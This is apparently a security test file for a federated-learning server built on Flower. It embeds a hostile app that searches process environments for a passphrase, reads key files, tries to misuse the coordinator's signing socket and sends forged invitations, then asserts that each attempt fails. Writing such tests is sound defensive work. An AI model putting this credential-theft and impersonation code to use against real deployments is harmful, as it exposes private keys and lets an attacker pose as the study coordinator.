"""A hospital of the study tries to take over the server, with all it rightly has: its relay's key, the authority's
certificate, the study file. Each test prints a line for docs/reliability.md.

Before there was a gate, the first try was enough: Flower executed the hospital's code as the coordinator's user, with
the coordinator's key and passphrase in its environment.
"""

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.proto.control_pb2 import ListNodesRequest, ListRunsRequest, RegisterNodeRequest
from flwr.proto.runtime_pb2 import AcquireTaskRequest
from flwr.supercore.control.control_http_client import ControlHttpClient
from flwr.supercore.runtime import RuntimeHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

from sapefl_crypto.keys.keyfile import Kind, read_key, write_key
from sapefl_crypto.secret import Secret
from secure_sapefl.transport.flower import Tls, environment, write_bundle
from secure_sapefl.transport.users import OtherUser

pytestmark = pytest.mark.slow
Small = Callable[..., Any]
Anybody = Callable[[Path], tuple[str, dict[str, str]]]
WORDS = "correct horse of the coordinator"

EVIL = '''
"""A foreign app. At the server it looks for the coordinator's key, then asks every site for its first update again."""
import json, os
from pathlib import Path
from flwr.app import Array, ArrayRecord, Message, RecordDict
from flwr.serverapp import ServerApp

STUDY, FILES, OUT, WORDS = {study!r}, {files!r}, {out!r}, {words!r}
server = ServerApp()


def environments():
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            yield path.read_bytes()
        except OSError:
            pass


def opened(files):
    for file in files:
        try:
            yield f"{{file}}: {{len(Path(file).read_bytes())}} bytes"
        except OSError:
            pass


def key():
    from sapefl_crypto.keys.custody import identity_from
    from sapefl_crypto.keys.keyfile import Kind, read_key
    from sapefl_crypto.secret import Secret
    words = Secret(os.environ["SAPEFL_SERVER_PASSPHRASE"].encode())
    return identity_from(read_key(Path(os.environ["SAPEFL_SERVER_KEY"]), Kind.SITE_IDENTITY, passphrase=words))


def knocked(grid):
    """What the coordinator's socket gives whoever asks: it is asked to sign, and for messages as our ServerApp does."""
    from secure_sapefl.transport.agent_socket import ask
    socket = Path(os.environ["SAPEFL_COORDINATOR_SOCKET"])
    say = lambda **head: ask(socket, (json.dumps(head).encode(),))
    session = json.loads(say(ask="begin")[0])["session"]
    wishes = [{{"ask": "sign", "round": 0}}, {{"ask": "begin", "key": True, "round": 0}}]
    nodes = list(grid.get_node_ids())
    taken = say(ask="next", session=session, nodes=nodes)
    return {{"signed": say(**wishes[0]) is not None, "messages": len(taken) - 1,
            "more than a session": set(json.loads(say(**wishes[1])[0])) - {{"session", "seconds", "at_once"}} != set()}}


def handed_in(grid, identity):
    """Invitations to round 0, signed with ``identity``; how many sites answer one."""
    from secure_sapefl.protocol.messages import Invitation
    from secure_sapefl.study.file import read_study
    from secure_sapefl.transport.wire import ToSite, write_to_site
    Path(OUT + ".toml").write_text(STUDY)
    file = read_study(Path(OUT + ".toml"))
    answers = 0
    for site in file.sites:
        peers = tuple(name for name in file.sites if name != site)
        invitation = Invitation(site=site, round_index=0, peers=peers, models=())
        message = ToSite(site=site, round_index=0, nonce="0" * 32, invitation=invitation)
        parts = write_to_site(message, identity, file.wire_name)
        arrays = {{f"{{n:05d}}": Array(dtype="uint8", shape=(len(p),), stype="raw.bytes", data=p)
                  for n, p in enumerate(parts)}}
        content = RecordDict({{"letter": ArrayRecord(arrays)}})
        sent = [Message(content, node, "query") for node in grid.get_node_ids()]
        replies = list(grid.send_and_receive(sent, timeout=120))
        answers += sum(not r.has_error() and "letter" in r.content.array_records for r in replies)
    return answers


@server.main()
def take_over(grid, context):
    from sapefl_crypto import SiteIdentity
    ours = {{name: value for name, value in os.environ.items() if name.startswith("SAPEFL_")}}
    report = {{"user": os.getuid(), "environment": ours, "files": list(opened(FILES))}}
    report["passphrase"] = any(WORDS.encode() in content for content in environments())
    try:
        identity = key()
        report["key"] = identity.public.to_text()
    except Exception as error:
        identity = SiteIdentity.generate("coordinator")
        report["key"] = None
    report["answers"] = handed_in(grid, identity)
    if "SAPEFL_COORDINATOR_SOCKET" in ours:
        report["socket"] = knocked(grid)
    Path(OUT + ".new").write_text(json.dumps(report))
    Path(OUT + ".new").rename(OUT)

'''
PROJECT = """
[project]
name = "evil"
version = "1.0.0"
license = "Apache-2.0"
[tool.flwr.app]
publisher = "evil"
[tool.flwr.app.components]
serverapp = "evil:server"
clientapp = "secure_sapefl.transport.relay_app:app"
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
"""


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder anybody may enter and write to; pytest's own are closed to others."""
    folder = Path(tempfile.mkdtemp(prefix="evil-"))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder)


def submitted(study: Any, folder: Path, address: str, ca: Path, out: Path) -> subprocess.CompletedProcess[str]:
    """`flwr run` of the foreign app, as anybody may type it who can reach ``address``."""
    app, home = folder / f"{out.name}-app", folder / f"{out.name}-home"
    write_bundle(app, home, address, Tls(ca=ca))
    files = [study.folder / "coordinator.key", study.folder / "tls" / "server.key", study.state / "checkpoint.json"]
    text = (study.folder / "study.toml").read_text()
    (app / "evil").mkdir()
    (app / "evil" / "__init__.py").write_text(
        EVIL.format(study=text, files=[str(file) for file in files], out=str(out), words=WORDS)
    )
    (app / "pyproject.toml").write_text(PROJECT)
    return subprocess.run(["flwr", "run", str(app)], env=environment(home), capture_output=True, text=True, check=False)


def knock(study: Any, site: str, address: str, ca: Path) -> dict[str, int]:
    """Calls of Flower's other APIs, signed with the relay's admitted key, and what they are answered."""
    key = load_ssh_private_key((study.folder / f"{site}.run" / "node.key").read_bytes(), None)
    about = {
        "server_address": address,
        "insecure": False,
        "root_certificates": ca.read_bytes(),
        "interceptors": [NodeAuthHttpInterceptor(key, key.public_key())],
    }
    control, runtime = ControlHttpClient.from_server_address(**about), RuntimeHttpClient.from_server_address(**about)
    calls = {
        "list-runs": lambda: control.ListRuns(ListRunsRequest()),
        "list-nodes": lambda: control.ListNodes(ListNodesRequest()),
        "register-node": lambda: control.RegisterNode(RegisterNodeRequest(public_key=b"x")),
        "acquire-task": lambda: runtime.AcquireTask(AcquireTaskRequest(supported_task_types=["flwr-serverapp"])),
    }
    said = {}
    for name, call in calls.items():
        try:
            call()
            said[name] = 200
        except httpx.HTTPStatusError as error:
            said[name] = error.response.status_code
    control.close()
    runtime.close()
    return said


def begun(small: Small, *more: str, python: str = sys.executable, programs: dict[str, str] | None = None) -> Any:
    """The documented set-up: an exposed port, TLS, admitted relays, a passphrase. Others than two have yet to come, so
    that the study is open for as long as somebody attacks it; with joint keys, nobody sends before they are there."""
    study = small(rounds=2, round_deadline=3600.0)
    key = study.folder / "coordinator.key"
    write_key(key, read_key(key, Kind.SITE_IDENTITY), passphrase=Secret(WORDS.encode()), replace=True)
    study.python, study.more_environment = python, {"SAPEFL_PASSPHRASE": WORDS, **(programs or {})}
    study.start_server("--listen", f"0.0.0.0:{study.port}", *more)
    study.python, study.more_environment = sys.executable, {}
    for site in ("north", "east"):
        study.start_site(site)
    if study.file.keys == "joint":
        study.wait_for(lambda: sum(one["seconds_since_heard"] is not None for one in study.status()["sites"]) == 2)
    else:
        study.wait_for(lambda: study.sent("north") == study.sent("east") == [0])
    return study


def start_the_others(study: Any) -> None:
    for site in study.file.sites[2:]:
        study.start_site(site)


def report_of(study: Any, out: Path) -> dict[str, Any]:
    study.wait_for(out.exists)
    return json.loads(out.read_text())


def test_a_hospital_that_submits_a_run_takes_nothing_over(either: Small, outside: Path) -> None:
    study = begun(either)
    out, ca = outside / "remote", study.folder / "tls" / "ca.pem"
    done = submitted(study, outside, f"127.0.0.1:{study.port}", ca, out)
    assert done.returncode != 0, f"executed as the coordinator: {report_of(study, out)}"
    said = knock(study, "east", f"127.0.0.1:{study.port}", ca)
    assert set(said.values()) == {404}

    inner = study.folder / "server.run" / "tls" / "ca.pem"
    local = submitted(study, outside, study.superlink(), inner, outside / "local")
    assert local.returncode == 0, local.stdout + local.stderr  # Flower takes it; nobody executes it
    assert knock(study, "east", study.superlink(), inner)["acquire-task"] in (401, 403)
    start_the_others(study)
    study.wait_to_finish_well()
    assert not out.exists()
    assert not (outside / "local").exists()
    print(f"\ntakeover: `flwr run` through the port of the nodes refused, other calls {said}; "
          "a run submitted on the server's own machine was never executed")  # fmt: skip


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can start Flower's programs as another user")
def test_foreign_code_in_the_serverapps_place_gains_nothing(either: Small, anybody: Anybody, outside: Path) -> None:
    """The worst case: somebody on the server's machine has got hold of Flower's own secret and has a foreign app
    executed as our ServerApp is, by the same user and with the same environment."""
    user, near = OtherUser.named("nobody"), outside / "server.run"
    python, programs = anybody(outside)
    study = begun(either, "--relay-user", "nobody", "--run", str(near), python=python, programs=programs)
    (outside / "home").mkdir()
    user.give(outside / "home")
    variables = {"SAPEFL_COORDINATOR_SOCKET": str(near / "agent.sock")}
    executor = study.superexec(near, outside / "home", extra={**programs, **variables}, user=user.uid, group=user.gid)
    executor.start()
    try:
        done = submitted(study, outside, study.superlink(), near / "tls" / "ca.pem", outside / "inside")
        assert done.returncode == 0, done.stdout + done.stderr
        report = report_of(study, outside / "inside")
    finally:
        executor.stop()
    start_the_others(study)
    study.wait_to_finish_well()
    print(f"\nforeign code in the ServerApp's place: {report}")
    assert report["user"] == user.uid
    assert report["environment"] == variables
    assert (report["key"], report["passphrase"], report["files"]) == (None, False, [])
    assert report["answers"] == 0
    assert report["socket"]["signed"] is report["socket"]["more than a session"] is False
    for site in study.file.sites:
        assert study.sent(site) == [0, 1]
